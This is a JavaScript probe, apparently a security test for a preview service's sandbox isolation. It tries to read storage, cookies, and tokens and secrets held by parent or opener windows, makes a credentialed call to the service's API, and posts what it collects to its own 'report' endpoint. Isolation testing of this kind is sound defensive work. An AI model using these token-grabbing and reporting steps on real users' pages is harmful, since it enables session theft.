// Tries everything a page on previewd's origin could once do, and reports
// each outcome ("READ <value>" or "blocked <error>") to its own server.
(async () => {
  const r = {
    route: (self.origin === 'null' ? 'path' : 'host') + (window.top === window ? '-tab' : '-iframe'),
    origin: self.origin,
  };
  const attempt = (name, f) => {
    try {
      const v = f();
      r[name] = `READ ${typeof v === 'string' ? v : JSON.stringify(v)}`;
    } catch (e) {
      r[name] = `blocked ${e.name}`;
    }
  };
  attempt('localStorage', () => JSON.stringify(localStorage));
  attempt('sessionStorage', () => JSON.stringify(sessionStorage));
  attempt('cookie', () => document.cookie);
  attempt('setCookie', () => { document.cookie = 'hostile_js=1; path=/'; return document.cookie; });
  // The Preview tab (or any page of previewd's origin) around or behind this one.
  const peek = (w) => ({
    token: w.previewd && w.previewd.state && w.previewd.state.token,
    secret: w.secret,
    storage: JSON.stringify(w.localStorage),
  });
  attempt('parent', () => (window.parent === window ? 'none' : peek(window.parent)));
  attempt('opener', () => (window.opener ? peek(window.opener) : 'none'));
  // previewd's API, as the person looking at this page.
  const api = `${location.protocol}//${location.host.replace(/^[0-9a-f-]{36}\.preview\./, '')}`;
  try {
    const res = await fetch(`${api}/api/v1/generations`, { credentials: 'include' });
    r.apiCall = `READ status ${res.status} ${await res.text()}`;
  } catch (e) {
    r.apiCall = `blocked ${e.name}`;
  }
  // The app's own data, as any app's page loads it.
  try {
    const res = await fetch('data.json');
    r.ownData = (await res.json()).ok ? 'ok' : 'wrong';
  } catch (e) {
    r.ownData = `failed ${e.name}`;
  }
  await fetch('report', { method: 'POST', body: JSON.stringify(r) });
  document.getElementById('status').textContent = 'reported';
})();
